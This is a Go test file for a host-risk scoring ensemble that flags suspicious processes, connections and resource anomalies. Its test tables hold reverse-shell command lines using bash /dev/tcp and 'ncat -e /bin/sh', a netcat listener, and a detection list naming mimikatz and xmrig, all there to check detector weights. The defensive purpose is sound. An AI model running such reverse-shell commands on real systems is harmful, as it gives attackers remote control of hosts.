package host

import (
	"context"
	"errors"
	"fmt"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"

	"hybrid_monitor/internal/metrics"
	"hybrid_monitor/internal/models"
	"hybrid_monitor/internal/probe"
)

type fakeInspector struct {
	procs   []probe.Result[ProcessInfo]
	conns   []probe.Result[Connection]
	procErr error
	connErr error
}

func (f *fakeInspector) Processes(context.Context) ([]probe.Result[ProcessInfo], error) {
	return f.procs, f.procErr
}

func (f *fakeInspector) Connections(context.Context) ([]probe.Result[Connection], error) {
	return f.conns, f.connErr
}

func proc(cmd string) probe.Result[ProcessInfo] {
	return probe.Ok(ProcessInfo{Cmdline: cmd, Stats: &ProcessStats{CPUPercent: 5, MemPercent: 2, Threads: 10, OpenFDs: 20}})
}

func conn(status string, port uint32) probe.Result[Connection] {
	return probe.Ok(Connection{Status: status, RemoteIP: "203.0.113.4", RemotePort: port})
}

func hostModel() *models.Host {
	return &models.Host{
		Scaler: &models.Scaler{Mean: []float64{5, 2, 10, 20}, Scale: []float64{5, 1, 5, 10}},
		Model:  &models.ZScoreModel{Threshold: 3},
	}
}

func newEnsemble(t *testing.T, insp Inspector, model *models.Host) (*Ensemble, *metrics.Metrics) {
	t.Helper()
	m := metrics.NewUnregistered()
	return NewEnsemble(DefaultConfig(), insp, model, m, zaptest.NewLogger(t)), m
}

func TestScore_QuietHostIsExactlyZero(t *testing.T) {
	insp := &fakeInspector{
		procs: []probe.Result[ProcessInfo]{proc("/usr/sbin/sshd -D"), proc("/lib/systemd/systemd-journald")},
		conns: []probe.Result[Connection]{conn("ESTABLISHED", 443), conn("ESTABLISHED", 22), conn("TIME_WAIT", 4444)},
	}
	e, _ := newEnsemble(t, insp, nil)

	rs := e.Score(context.Background())
	assert.Equal(t, 0.0, rs.Value)
	for name, v := range rs.Components {
		assert.Equal(t, 0.0, v, name)
	}
}

func TestScore_ProcessTiers(t *testing.T) {
	tests := []struct {
		cmd  string
		want float64
	}{
		{"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 0.4},
		{"/usr/bin/nc -lvp 4444", 0.2},
		{"ncat -e /bin/sh 198.51.100.7 4444", 0.4},
		{"python3 -m http.server 8000", 0.2},
		{"/usr/bin/rsync -a src dst", 0},
		{"/usr/sbin/syncthing", 0},
	}
	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			e, _ := newEnsemble(t, &fakeInspector{procs: []probe.Result[ProcessInfo]{proc(tt.cmd)}}, nil)
			assert.InDelta(t, tt.want, e.Score(context.Background()).Components[DetectorProcess], 1e-9)
		})
	}
}

func TestScore_SubScoresCapAndSum(t *testing.T) {
	var procs []probe.Result[ProcessInfo]
	for i := 0; i < 4; i++ {
		procs = append(procs, proc("bash -i"))
	}
	insp := &fakeInspector{
		procs: procs,
		conns: []probe.Result[Connection]{conn("ESTABLISHED", 4444)},
	}
	e, m := newEnsemble(t, insp, nil)

	rs := e.Score(context.Background())
	assert.Equal(t, 1.0, rs.Components[DetectorProcess])
	assert.InDelta(t, 0.3, rs.Components[DetectorNetwork], 1e-9)
	assert.Equal(t, 1.0, rs.Value)
	assert.Equal(t, 1.0, testutil.ToFloat64(m.HostRiskScore))
}

func TestScore_NetworkHeuristic(t *testing.T) {
	insp := &fakeInspector{conns: []probe.Result[Connection]{
		conn("ESTABLISHED", 4444),
		conn("ESTABLISHED", 6667),
		conn("LISTEN", 31337),
		conn("ESTABLISHED", 53),
	}}
	e, _ := newEnsemble(t, insp, nil)
	assert.InDelta(t, 0.6, e.Score(context.Background()).Value, 1e-9)
}

func TestScore_AnomalyContributionIsCapped(t *testing.T) {
	hot := probe.Ok(ProcessInfo{Cmdline: "miner", Stats: &ProcessStats{CPUPercent: 95, MemPercent: 2, Threads: 10, OpenFDs: 20}})
	// |z| = 4.2, severity 1.4, contribution 0.28
	warm := probe.Ok(ProcessInfo{Cmdline: "worker", Stats: &ProcessStats{CPUPercent: 26, MemPercent: 2, Threads: 10, OpenFDs: 20}})
	insp := &fakeInspector{procs: []probe.Result[ProcessInfo]{hot, warm, proc("idle")}}
	e, _ := newEnsemble(t, insp, hostModel())

	rs := e.Score(context.Background())
	assert.InDelta(t, 0.3+0.28, rs.Components[DetectorAnomaly], 1e-9)
}

func TestScore_SkipsUnreadableItems(t *testing.T) {
	denied := fmt.Errorf("%w: pid 1", ErrEnumerationDenied)
	insp := &fakeInspector{procs: []probe.Result[ProcessInfo]{
		probe.Skip[ProcessInfo](denied),
		probe.Skip[ProcessInfo](ErrProcessGone),
		probe.Ok(ProcessInfo{Cmdline: "nc -e /bin/sh"}),
	}}
	e, m := newEnsemble(t, insp, hostModel())

	rs := e.Score(context.Background())
	assert.InDelta(t, 0.4, rs.Value, 1e-9)
	assert.Equal(t, 2, rs.Skipped[DetectorProcess])
	assert.Equal(t, 1, rs.Skipped[DetectorAnomaly], "no stats for the anomaly model")
	assert.Equal(t, 2.0, testutil.ToFloat64(m.HostItemsSkipped.WithLabelValues(DetectorProcess)))
}

func TestScore_EnumerationFailureDoesNotAbort(t *testing.T) {
	insp := &fakeInspector{
		procErr: errors.New("proc not mounted"),
		conns:   []probe.Result[Connection]{conn("ESTABLISHED", 4444)},
	}
	e, _ := newEnsemble(t, insp, hostModel())

	rs := e.Score(context.Background())
	assert.InDelta(t, 0.3, rs.Value, 1e-9)
	assert.Equal(t, 1, rs.Skipped[DetectorProcess])
}

func TestSubstringRules(t *testing.T) {
	rules := SubstringRules([]string{" mimikatz ", "", "xmrig"}, 0.3)
	require.Len(t, rules, 2)
	assert.Equal(t, 0.3, processWeight(rules, "/tmp/XMRig --donate-level 1"))
	assert.Equal(t, 0.0, processWeight(rules, "/usr/bin/vim"))
}

func TestPoller(t *testing.T) {
	insp := &fakeInspector{conns: []probe.Result[Connection]{conn("ESTABLISHED", 4444)}}
	e, _ := newEnsemble(t, insp, nil)
	p := NewPoller(e, 10*time.Millisecond, zaptest.NewLogger(t))

	_, ok := p.Latest()
	assert.False(t, ok)
	assert.Zero(t, p.HostRisk())

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		p.Run(ctx)
		close(done)
	}()

	require.Eventually(t, func() bool {
		_, ok := p.Latest()
		return ok
	}, time.Second, 5*time.Millisecond)
	assert.InDelta(t, 0.3, p.HostRisk(), 1e-9)

	cancel()
	select {
	case <-done:
	case <-time.After(time.Second):
		t.Fatal("poller did not stop")
	}
}

func TestFixed(t *testing.T) {
	assert.Equal(t, 0.25, Fixed(0.25).HostRisk())
}
